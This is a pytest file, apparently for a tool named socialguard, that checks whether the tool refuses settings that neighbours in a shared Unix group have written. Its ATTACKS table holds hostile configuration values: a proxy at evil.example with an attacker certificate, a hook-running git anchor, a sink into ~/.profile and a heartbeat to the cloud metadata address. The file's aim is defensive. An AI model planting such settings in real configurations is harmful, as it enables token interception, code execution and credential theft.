"""Who can write the workspace's directory writes its settings: what that does to a worker whose workspace a Unix
group shares. Its machine's own settings lie in the identity directory."""

import shutil
from pathlib import Path

import pytest

from tests.attacker import outside
from tests.attacks.world import APPROVED, PLAIN, Firm
from tests.members.test_sharing import shared
from tests.office import Done
from tests.shapes import Failure

__all__ = ["outside"]

ATTACKS = {
    "a proxy that reads tokens": '[http]\nproxy = "http://evil.example:3128"\nca_bundle = "/tmp/evil.pem"\n',
    "a certificate of the attackers": '[http]\nca_bundle = "/tmp/evil.pem"\n',
    "an anchor whose hooks run": '[audit]\nanchors = ["git:/tmp/evil.git"]\n',
    "a sink into a start-up file": '[audit]\nsinks = ["file:~/.profile"]\n',
    "a heartbeat into the house": '[daemon]\nheartbeat_url = "http://169.254.169.254/"\n',
    "numbers for everybody": '[daemon]\nmetrics = "0.0.0.0:9464"\n',
}


def write_settings(firm: Firm, text: str) -> None:
    """Put another file in the place of the settings, as a neighbour in the group can."""
    path = firm.office.home / "socialguard.toml"
    path.unlink(missing_ok=True)
    path.write_text(text, encoding="utf-8")


def own(firm: Firm, text: str) -> None:
    """Write the settings of the worker's machine."""
    (firm.office.identity / "socialguard.toml").write_text(text, encoding="utf-8")


def refused(done: Done) -> None:
    """Nothing was done, and it says where such a section belongs."""
    error = Failure.model_validate(done.document).error
    assert (done.code, error.name) == (1, "settings_open"), done
    assert "socialguard.toml" in error.remedy


@pytest.mark.parametrize("attack", ATTACKS)
def test_settings_that_lead_elsewhere(firm: Firm, attack: str) -> None:
    """Refused: what others can write does not say where requests leave and where the log goes to."""
    shared(firm.office)
    write_settings(firm, ATTACKS[attack])
    refused(firm.send())
    assert firm.office.published() == []


def test_anchors_taken_out_of_a_shared_file(firm: Firm, outside: Path) -> None:
    """Nothing is lost: they stand in the identity directory, which the neighbour does not write."""
    own(firm, f'[audit]\nanchors = ["dir:{outside}"]\n')
    shared(firm.office)
    write_settings(firm, "[audit]\nanchors = []\n")
    assert firm.send().code == 0
    assert sorted(firm.office.published()) == [APPROVED, PLAIN]
    assert list(outside.rglob("*.checkpoint"))
    assert firm.verify("--require-anchor").code == 0


def test_a_copy_of_the_database_named_in_its_place(firm: Firm, tmp_path: Path) -> None:
    """Refused: the copy is older than what this machine has seen."""
    shutil.copy(firm.office.database, tmp_path / "copy.db")
    assert firm.office.cli("freeze", "--all", "--reason", "leak", "--json").code == 0
    write_settings(firm, f'database = "sqlite:///{tmp_path / "copy.db"}"\n')
    assert firm.send().code == 13
    assert firm.office.published() == []


def test_settings_garbled_to_keep_a_freeze_from_working(firm: Firm) -> None:
    """It works: the emergency file takes it, and it counts as soon as the settings are read again."""
    write_settings(firm, "]]] not TOML")
    done = firm.office.cli("freeze", "--all", "--reason", "stop them", "--json")
    assert done.code == 0, done
    assert firm.send().code == 1
    write_settings(firm, "")
    assert firm.send().code == 11
    assert firm.office.published() == []
